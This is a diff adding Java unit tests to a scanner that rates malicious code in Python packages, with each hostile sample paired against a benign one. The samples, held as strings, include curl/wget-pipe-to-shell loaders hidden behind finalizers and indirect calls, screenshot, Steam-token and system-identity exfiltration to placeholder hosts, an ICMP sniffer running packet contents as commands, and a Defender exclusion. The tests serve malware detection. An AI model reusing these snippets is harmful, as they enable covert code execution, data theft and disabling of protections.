@@ -1514,6 +1514,104 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/hosts.py", reader))).isEmpty();
   }
 
+  @Test
+  void aFunctionHandedToAFinaliserOrAnExitStackIsCalledWithItsArguments() {
+    String finaliser =
+        "import os, weakref\nclass S:\n    pass\ns = S()\n"
+            + "weakref.finalize(s, os.system, 'curl -fsSL https://a.example/i.sh | bash')\n";
+    String stack =
+        "import contextlib, os\nwith contextlib.ExitStack() as st:\n"
+            + "    st.callback(os.system, 'wget -qO- https://a.example/s | sh')\n";
+    String cleanup =
+        "import weakref\nclass Pool:\n    def __init__(self, handle):\n"
+            + "        self._finalizer = weakref.finalize(self, handle.close)\n";
+
+    assertThat(levelIn(finaliser, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(stack, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/pool.py", cleanup))).isEmpty();
+  }
+
+  @Test
+  void aModuleAndFunctionNameHandedToResolveNameBesideADownloadCommandIsCritical() {
+    String hidden =
+        "import pkgutil\ntarget = 'subprocess' + ':' + 'getoutput'\n"
+            + "call = pkgutil.resolve_name(target)\ncall('curl -s https://a.example/p.sh | sh')\n";
+    String plugins = "import pkgutil\ndef load(spec):\n    return pkgutil.resolve_name(spec)\n";
+
+    assertThat(levelIn(hidden, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    // a plugin loader resolves the names its configuration gives
+    assertThat(check(wheelWith("pkg/plugins.py", plugins))).isEmpty();
+  }
+
+  @Test
+  void aScreenCapturedByGStreamerAndSentIsCritical() {
+    String grab =
+        "import subprocess, requests\n"
+            + "subprocess.run(['gst-launch-1.0', 'ximagesrc', 'num-buffers=1', '!', 'pngenc', '!',"
+            + " 'filesink', 'location=/tmp/f.png'])\n"
+            + "requests.post('https://f.example/f', files={'f': open('/tmp/f.png', 'rb')})\n";
+    String test =
+        "import subprocess\nsubprocess.run(['gst-launch-1.0', 'videotestsrc', '!', 'autovideosink'])\n";
+
+    assertThat(levelIn(grab, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/video.py", test))).isEmpty();
+  }
+
+  @Test
+  void steamsSentryFilesSentAreSecretsSent() {
+    String steam =
+        "import glob, os, requests\nfor p in glob.glob(os.path.join(steam, 'ssfn*')):\n"
+            + "    requests.post('https://g.example/s', files={'f': open(p, 'rb').read()})\n";
+    String library =
+        "import os\nLIBRARIES = os.path.join(steam, 'steamapps', 'libraryfolders.vdf')\n";
+
+    assertThat(levelIn(steam, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/library.py", library))).isEmpty();
+  }
+
+  @Test
+  void theMachinesUnameAndUsersPostedAreIdentityUploaded() {
+    String report =
+        "import json, platform, urllib.request\nimport psutil\n"
+            + "r = {'u': platform.uname()._asdict(), 'who': [u.name for u in psutil.users()]}\n"
+            + "urllib.request.urlopen(urllib.request.Request('https://t.example/r',"
+            + " data=json.dumps(r).encode()))\n";
+    String banner = "import platform\nprint('running on', platform.uname().system)\n";
+
+    assertThat(levelIn(report, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(check(wheelWith("pkg/banner.py", banner))).isEmpty();
+  }
+
+  @Test
+  void packetsSniffedAndRunByTheirCallbackAreACommandChannel() {
+    String icmp =
+        "import subprocess\nfrom scapy.all import ICMP, Raw, sniff\n\n"
+            + "def on_packet(pkt):\n"
+            + "    subprocess.run(pkt[Raw].load.decode(), shell=True)\n\n"
+            + "sniff(filter='icmp', prn=on_packet, store=False)\n";
+    String counter =
+        "from scapy.all import sniff\nseen = []\n\n"
+            + "def on_packet(pkt):\n    seen.append(len(pkt))\n\n"
+            + "sniff(filter='tcp', prn=on_packet, count=10)\n";
+
+    assertThat(levelIn(icmp, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/count.py", counter))).isEmpty();
+  }
+
+  @Test
+  void anAntivirusExclusionIsHigh() {
+    String exclusion =
+        "import subprocess\nsubprocess.run(['powershell', '-Command',"
+            + " \"Add-MpPreference -ExclusionPath 'C:\\\\Users'\"])\n";
+    String status =
+        "import subprocess\n"
+            + "out = subprocess.run(['powershell', '-Command', 'Get-MpPreference'], capture_output=True)\n";
+
+    assertThat(levelIn(exclusion, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    // reading Defender's settings changes nothing
+    assertThat(check(wheelWith("pkg/status.py", status))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
